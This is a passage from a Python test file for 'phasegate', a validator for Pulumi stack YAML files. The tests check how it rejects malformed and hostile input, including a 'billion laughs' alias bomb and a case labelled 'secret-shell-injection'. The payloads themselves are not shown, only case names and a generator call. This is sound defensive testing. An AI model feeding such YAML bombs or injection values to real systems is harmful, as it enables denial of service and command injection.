    """The project as a user has it, to run the real command against a broken file without touching the repo."""
    copy_dir = tmp_path_factory.mktemp("project") / "phasegate"
    shutil.copytree(ROOT, copy_dir, ignore=shutil.ignore_patterns(".venv", ".git", "__pycache__", ".pytest_cache"))
    return copy_dir


@pytest.mark.parametrize("case", ["unclosed-flow", "secret-shell-injection", "user-data-too-big", "port-true",
                                  "alias-cycle", "nested-3000-deep", "billion-laughs", "file-over-1-mib",
                                  "binary-file", "made-up-m7i-size", "engine-version-float"])
def test_the_check_command_prints_one_line_per_problem_exits_3_and_never_a_traceback(project_copy, case):
    _, stack, text, expected = next(c for c in CASES if c[0] == case)
    write(project_copy / f"Pulumi.{stack}.yaml", text)
    result = subprocess.run([sys.executable, "-m", "offline", stack, "--no-tree"], cwd=project_copy,
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 3
    assert "Traceback" not in result.stdout + result.stderr
    assert result.stdout.splitlines() == [f"== {stack}: ERROR"] + [f"error: {line}" for line in expected]


def test_a_runtime_that_is_a_list_is_named_as_a_wrong_runtime(tmp_path):
    assert problems_of(tmp_path, "mvp", edit("mvp", section("compute", runtime=["compose"]))) == [
        "Pulumi.mvp.yaml: phasegate:compute.runtime: ['compose'] is not a runtime; use one of compose, k3s, eks, fargate, lambda"]


def test_a_huge_wrong_value_is_named_in_a_short_line(tmp_path):
    reported = problems_of(tmp_path, "mvp", edit("mvp", service(0, "port", "9" * 5000)))
    assert len(reported) == 1 and len(reported[0]) < 300


def test_an_unquoted_integer_engine_version_means_that_major(tmp_path):
    """`engineVersion: 17` is read by YAML as a number; it means the text "17", as quoted it would."""
    assert problems_of(tmp_path, "mvp", edit("mvp", section("database", engineVersion=17))) == []
    text = edit("mvp", section("database", engineVersion=17))
    assert "engineVersion: 17\n" in text  # unquoted in the file
    write(tmp_path / "Pulumi.mvp.yaml", text)
    config = build_stack_config(stack_config("mvp", tmp_path), "Pulumi.mvp.yaml")
    assert config.database.engine_version == "17"


def test_yaml_that_the_cli_accepts_is_read_as_it_means(tmp_path):
    """Merge keys (an override of a merged key is not a duplicate), timestamps as text (the CLI's yaml.v3 hands
    them over as strings, and a date as a key must not crash the JSON the engine passes), UTF-16 with a BOM."""
    from project import read_stack_file

    path = tmp_path / "Pulumi.mvp.yaml"
    write(path, "config:\n  x:base: &base {name: acme, port: 1}\n  phasegate:app:\n    <<: *base\n    port: 2\n"
                "  phasegate:when: 2024-01-01\n  phasegate:env: {2024-01-01: x}\n")
    config = read_stack_file(path)
    assert config["phasegate:app"] == {"name": "acme", "port": 2}
    assert config["phasegate:when"] == "2024-01-01" and config["phasegate:env"] == {"2024-01-01": "x"}
    assert stack_config("mvp", tmp_path)["phasegate:env"] == '{"2024-01-01": "x"}'
    write(path, "config:\n  aws:region: us-east-1\n".encode("utf-16"))
    assert read_stack_file(path) == {"aws:region": "us-east-1"}


def test_a_stack_file_that_cannot_be_read_gets_one_line(tmp_path):
    (tmp_path / "Pulumi.mvp.yaml").mkdir()
    with pytest.raises(ProgramError) as caught:
        stack_config("mvp", tmp_path)
    assert caught.value.messages == ["Pulumi.mvp.yaml: cannot be read: Is a directory"]


def test_hostile_yaml_is_refused_quickly_and_in_little_memory(tmp_path):
    """Ten levels of laughs would be 3.5 billion strings; refused while composing, before anything is built."""
    import resource
    import time

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    assert problems_of(tmp_path, "mvp", laughs(10))[0].startswith("Pulumi.mvp.yaml:8:57: alias *a4 expands the file")
    assert time.monotonic() - started < 5
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200_000  # KiB
